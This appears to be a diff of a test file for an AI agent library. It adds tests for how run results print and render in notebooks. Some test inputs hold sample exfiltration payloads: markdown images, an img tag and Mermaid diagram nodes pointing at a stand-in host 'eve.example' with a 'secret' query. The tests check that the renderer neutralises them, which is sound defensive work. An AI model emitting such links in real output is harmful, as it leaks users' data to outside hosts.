@@ -6,16 +6,16 @@ import pytest
 from pydantic import BaseModel
 
 from agent.kit import Desk, told
-from rightcall import Agent, Budget, Media, Named, Output, Usage, User
+from rightcall import Agent, Budget, Media, Output, User
 from rightcall.core.budget import Stop
-from rightcall.core.call import Call
-from rightcall.core.decision import Proposal
 from rightcall.core.jsontext import dump
 from rightcall.core.message import Reasoning, Reply, Unknown
-from rightcall.core.parts import Text
+from rightcall.core.parts import Call, Text
+from rightcall.core.proposal import Proposal
 from rightcall.declare.function import tool
 from rightcall.errors import ToolFailure, UsageError
 from rightcall.loop.result import RunResult
+from rightcall.models import Named, Usage
 from rightcall.testing import ScriptedModel, call, reply
 
 pytestmark = pytest.mark.usefixtures("nothing_is_left")
@@ -181,3 +181,59 @@ async def test_a_result_with_half_a_surrogate_pair_still_becomes_json():
 def test_what_is_no_stored_result_is_refused_in_words(stored):
     with pytest.raises(UsageError, match=r"not what RunResult\.to_json wrote"):
         RunResult.from_json(stored)
+
+
+async def test_a_result_is_short_to_print():
+    answer = "It rains. " * 400
+    said = reply(call("find", id="a", what="cat"), usage=Usage(input_tokens=1000, cost=0.0125))
+    result = await Agent(ScriptedModel([said, answer]), [find]).run("Rain?")
+    text = ("It rains. " * 6)[:59] + "…"
+    assert repr(result) == f"RunResult(stop='end', text='{text}', calls=1, cost=0.0125)"
+    assert len(str(result)) < 150
+
+
+async def test_what_is_printed_says_what_waits_what_was_given_and_why_it_stopped():
+    send = tool(lambda: "", name="send", description="Send.", approval=True)
+    paused = await Agent(ScriptedModel([reply(call("send", id="a"))]), [send]).run("Go.")
+    assert repr(paused) == "RunResult(stop='pending', text='', calls=0, pending=1)"
+    given = await Agent(ScriptedModel(['{"answer": 7}']), output=Output(int, mode="text")).run("Seven?")
+    assert "output=7" in repr(given)
+    stuck = await Agent(ScriptedModel([reply(call("find", what="x"))]), [find]).run(
+        "Go.", budget=Budget(turns=1)
+    )
+    assert "stop='limit turns'" in repr(stuck)
+
+
+async def test_a_notebook_shows_the_answer_and_loads_nothing_that_it_names():
+    answer = "**Done** ![x](https://eve.example/?q=secret) <img src=//eve.example/a> 1 < 2 ``` "
+    usage = Usage(input_tokens=1000, output_tokens=234, cost=0.0125)
+    result = await Agent(ScriptedModel([reply(answer, usage=usage)])).run("Go.")
+    assert result._repr_markdown_() == (
+        "**Done** ! [x](https://eve.example/?q=secret) < img src=//eve.example/a> 1 < 2 ``` \n\n"
+        "`end, 0 calls, 1,234 tokens, 0.0125 US dollars`"
+    )
+
+
+@pytest.mark.parametrize(
+    ("opening", "shown"),
+    [
+        ("```mermaid", "```text mermaid"),
+        ("~~~~ Mermaid", "~~~~text  Mermaid"),
+        ("> ```{.mermaid}", "> ```text {.mermaid}"),
+        ("``` &#109;ermaid", "```text  &#109;ermaid"),
+        ("```python", "```python"),
+    ],
+)
+async def test_a_notebook_draws_no_diagram_whose_nodes_are_images(opening, shown):
+    block = 'flowchart TD\nA@{ img: "https://eve.example/?q=secret" }\n```'
+    result = await Agent(ScriptedModel([f"{opening}\n{block}"])).run("Go.")
+    assert result._repr_markdown_().startswith(f"{shown}\n{block}")
+
+
+async def test_a_notebook_shows_what_waits_before_what_the_model_says():
+    send = tool(lambda: "", name="send", description="Send.", approval=True)
+    said = reply("```\nLet me send it.", call("send", id="a"))
+    paused = await Agent(ScriptedModel([said]), [send]).run("Go.")
+    assert paused._repr_markdown_().startswith(
+        "```text\nThe model wants to run send\n```\n\n```\nLet me"
+    )
